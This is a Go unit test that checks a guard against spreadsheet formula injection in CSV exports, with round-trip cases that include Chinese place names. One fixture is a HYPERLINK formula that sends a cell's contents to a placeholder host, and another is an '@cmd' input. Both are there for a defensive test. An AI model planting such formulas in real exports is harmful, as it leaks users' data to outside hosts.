package registry

import "testing"

// Text a spreadsheet would run as a formula leaves an export as text, and an
// import gives back exactly what was stored.
func TestFormulaGuardRoundTrips(t *testing.T) {
	for _, c := range []struct{ stored, cell string }{
		{`=HYPERLINK("http://x/?"&B2,"详情")`, `'=HYPERLINK("http://x/?"&B2,"详情")`},
		{"+86 991 5921442", "'+86 991 5921442"},
		{"-5℃ 库房", "'-5℃ 库房"},
		{"@cmd", "'@cmd"},
		{"'=already quoted", "''=already quoted"},
		{"'a quote", "''a quote"},
		{"水西沟镇避难场所", "水西沟镇避难场所"},
		{"", ""},
	} {
		if got := guardFormula(c.stored); got != c.cell {
			t.Errorf("guard(%q) = %q, want %q", c.stored, got, c.cell)
		}
		if got := unguardFormula(c.cell); got != c.stored {
			t.Errorf("unguard(%q) = %q, want %q", c.cell, got, c.stored)
		}
	}
	// A quote that guards nothing, typed by a person in their own CSV, is data.
	if got := unguardFormula("'abc"); got != "'abc" {
		t.Errorf("unguard('abc) = %q", got)
	}
}
